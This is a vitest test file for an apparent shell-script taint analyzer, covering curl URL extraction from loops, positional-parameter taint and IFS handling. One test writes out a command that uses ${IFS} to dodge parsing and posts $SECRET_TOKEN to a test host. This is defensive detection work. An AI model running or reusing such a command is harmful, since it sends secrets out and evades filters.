import { describe, expect, test } from 'vitest';
import { observeShell } from './shell-harness.ts';

const urls = (script: string): readonly string[] =>
  observeShell(script)
    .calls.filter((call) => call.api === 'sh:curl')
    .flatMap((call) => call.args.url?.texts ?? []);

describe('the words of a for loop', () => {
  test.each<[string, readonly string[]]>([
    [`for u in $(printf 'a.test\\nb.test\\n'); do curl $u; done`, ['a.test', 'b.test']],
    [`l='a.test b.test'; for u in $l c.test; do curl $u; done`, ['a.test', 'b.test', 'c.test']],
    [`l='a.test b.test'; for u in "$l"; do curl "http://$u"; done`, ['http://a.test b.test']],
  ])('%s', (script, expected) => {
    expect(urls(script)).toEqual(expected);
  });
});

describe('positional parameters at the top of a script', () => {
  test.each(['$1', '"$9"', '$@', '"$*"', '$' + '{1}'])('%s is an argument', (word) => {
    const call = observeShell(`curl -d ${word} https://a.test`).calls.find(({ api }) => api === 'sh:curl');
    expect(call?.args.body?.taints.map(({ source }) => source.class)).toEqual(['argv']);
  });

  test.each(['$#', '$?', '$$', '$0'])('%s reads nothing of the environment', (word) => {
    const { calls } = observeShell(`curl -d ${word} https://a.test`);
    expect(calls.map(({ api }) => api)).toEqual(['sh:curl']);
  });
});

test('the separator variable ends a value nobody knows', () => {
  const call = observeShell('curl${IFS}-d${IFS}$SECRET_TOKEN${IFS}https://a.test').calls.find(
    ({ api }) => api === 'sh:curl',
  );
  expect(call?.args.url?.texts).toEqual(['https://a.test']);
  expect(call?.args.body?.taints.map(({ source }) => source.name)).toEqual(['SECRET_TOKEN']);
});
